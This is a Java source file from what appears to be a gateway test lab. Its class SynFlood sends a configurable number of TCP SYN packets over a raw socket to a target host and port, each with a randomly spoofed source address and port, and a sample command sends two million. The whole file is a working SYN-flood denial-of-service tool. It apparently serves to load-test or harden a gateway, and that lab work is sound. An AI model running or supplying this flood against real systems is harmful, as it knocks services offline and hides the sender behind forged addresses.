package gateway.lab.traffic;

import java.io.IOException;
import java.net.InetAddress;
import java.util.SplittableRandom;

/**
 * Connection requests from ever new addresses in the upper half of a /16, as fast as they go:
 * {@code PREFIX TO PORT COUNT}, for instance {@code 10.81.0.0 10.1.0.2 80 2000000}. Nobody answers the answers.
 */
public final class SynFlood {
    private static final int TCP = 6;
    private static final int FIRST_PORT = 1024;

    private SynFlood() {
    }

    /** Runs it. */
    public static void main(String[] arguments) throws IOException {
        byte[] from = InetAddress.getByName(arguments[0]).getAddress();
        byte[] to = InetAddress.getByName(arguments[1]).getAddress();
        int port = Integer.parseInt(arguments[2]);
        int count = Integer.parseInt(arguments[3]);
        SplittableRandom random = new SplittableRandom(1);
        TcpSegment segment = new TcpSegment();
        byte[] nothing = new byte[0];
        long start = System.nanoTime();
        try (RawSocket socket = new RawSocket(TCP, to)) {
            for (int i = 0; i < count; i++) {
                // The upper half: the real hosts live in the lower one.
                from[2] = (byte) (0x80 + random.nextInt(0x80));
                from[3] = (byte) random.nextInt(256);
                int length = segment.write(from, FIRST_PORT + random.nextInt(0x10000 - FIRST_PORT), to, port,
                    random.nextInt(), 0, TcpSegment.SYN, nothing);
                socket.send(segment.bytes(), length);
            }
        }
        System.out.println("sent " + count + " in " + (System.nanoTime() - start) / 1_000_000 + " ms");
    }
}
